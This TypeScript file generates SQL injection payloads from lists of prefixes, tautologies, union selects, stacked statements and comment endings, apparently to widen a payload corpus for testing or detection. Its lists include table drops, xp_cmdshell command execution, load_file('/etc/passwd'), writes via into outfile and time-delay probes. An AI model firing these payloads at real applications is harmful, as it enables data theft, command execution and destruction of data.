/**
 * A grammar of SQL injection: how payloads get out of a value, what they then say, and how they get rid of the rest. It widens what the corpora show to
 * shapes that nobody collected.
 */

const starts = ['1', '-1', 'x', '@a', '(1)', '1)', "'", "1'", "x'", "1')", "1'))", '"', '1"', '1")']
const ends = ['', '--', '-- x', '#', '/*', ';', "and '1", 'and "1"="1']
const comparisons = [
  "('a'='a",
  '("a"="a',
  '(1=1',
  "('1'='1'",
  "'a' like 'a",
  '""="',
  '1=1',
  '1=2',
  "'a'='a'",
  '2>1',
  'a=a',
  '1 like 1',
  '1 in (1)',
  'x is null',
  '1 between 0 and 2',
  '@@version>0',
  'true',
  '1',
  'sleep(5)',
  "'1'='1",
  "'a'",
  '"a"="a',
  'not 1',
  'id=1',
  "name='x'",
  'length(x)>1',
  'ascii(substr(user(),1,1))>64',
  '(select 1)=1',
  'exists(select 1)',
  '1=(select 1)',
  '!1',
  'x regexp 1',
  '1=convert(int,@@version)',
  'updatexml(1,2,3)',
  'row(1,1)>(1,2)',
]
const joiners = ['and', 'or', '&&', '||', 'xor', 'and not', 'or not', 'OR(1)=(1) and', '/**/or/**/']
const selects = [
  'select 1',
  'select 1,2',
  'select null,null',
  'select * from users',
  "select 'a',2",
  'select @@version',
  'select user(),2',
  'select concat(1,2)',
  'select(1)',
  '(select 1)',
  'select password from users where 1',
  'select top 1 x from y',
  'select x from y limit 1',
  'select distinct a from b',
  'select -1',
  'select 0x31,2',
  'select table_name from information_schema.tables',
]
const unions = ['union', 'union all', 'union distinct', 'intersect', 'except', '/*!union*/', 'union/**/']
const orders = [
  'order by 1',
  'order by 10',
  'group by 1',
  'group by x having 1=1',
  'having 1=1',
  'order by sleep(1)',
  'order by x',
  'limit 1,1',
  'limit 0 union select 1',
  'procedure analyse()',
  'into outfile 1',
  "into outfile '/tmp/x'",
  'like 1',
  "like '%",
  'in (select 1)',
  'rlike sleep(1)',
  'between 1 and 2',
  'is null',
  '=1',
  "='1",
  '=sleep(5)',
  '-sleep(5)',
  "+'1",
  "||'1",
  '*1',
  '-(select 1)',
  '=(select 1)',
  '^1',
  'div 1',
  'collate latin1_bin',
  'for update',
]
const stacked = [
  'select 1',
  'drop table users',
  "exec xp_cmdshell 'dir'",
  "waitfor delay '0:0:5'",
  'shutdown',
  'insert into x values(1)',
  'update x set y=1',
  'delete from x',
  'declare @a int',
  'truncate table x',
  'begin',
  'if 1=1 select 1',
  'create table x(y int)',
  'alter table x',
  'call x()',
  'grant all',
  'copy x from y',
  'exec(x)',
  "load_file('x')",
  'pg_sleep(5)',
  'select sleep(5)',
  'drop database x',
  'use master',
  'set @a=1',
  'print 1',
  'begin dbms_lock.sleep(5)',
]
const wholes = [
  'select 1',
  'select * from users',
  'select @@version',
  'select user()',
  'select x from y where z=1',
  'select 1 union select 2',
  'union select 1,2',
  'union all select null',
  'drop table users',
  'delete from users where 1=1',
  'insert into users values (1)',
  "update users set a='b'",
  'update users set a=1 where b=2',
  "exec xp_cmdshell 'dir'",
  'exec master..xp_cmdshell',
  "waitfor delay '0:0:5'",
  'sleep(5)',
  'benchmark(1000,md5(1))',
  'pg_sleep(5)',
  "load_file('/etc/passwd')",
  'concat(1,2)',
  'ascii(substring(version() from 1 for 1))',
  'case when 1=1 then 1 else 2 end',
  'if(1=1,1,2)',
  '(select 1)',
  'extractvalue(1,concat(1,2))',
  'declare @a int',
  'truncate table users',
  'create table x (y int)',
  'alter table x add y int',
  'select sleep(5)',
  'select(1)',
  'select if(1,2,3)',
  "select 'a'",
  'select count(*) from x',
  'select concat(a,b) from c',
]

/** All sentences of the grammar. */
export function* attackSentences(): Generator<string> {
  yield* wholes
  for (const start of starts) for (const end of ends) yield* continuations(start, end)
}

function* continuations(start: string, end: string): Generator<string> {
  for (const joiner of joiners)
    for (const comparison of comparisons) yield `${start} ${joiner} ${comparison}${glue(end)}`
  for (const union of unions) for (const select of selects) yield `${start} ${union} ${select}${glue(end)}`
  for (const order of orders) yield `${start} ${order}${glue(end)}`
  for (const statement of stacked) yield `${start}; ${statement}${glue(end)}`
}

function glue(end: string): string {
  return /^[a-z]/.test(end) ? ' ' + end : end
}
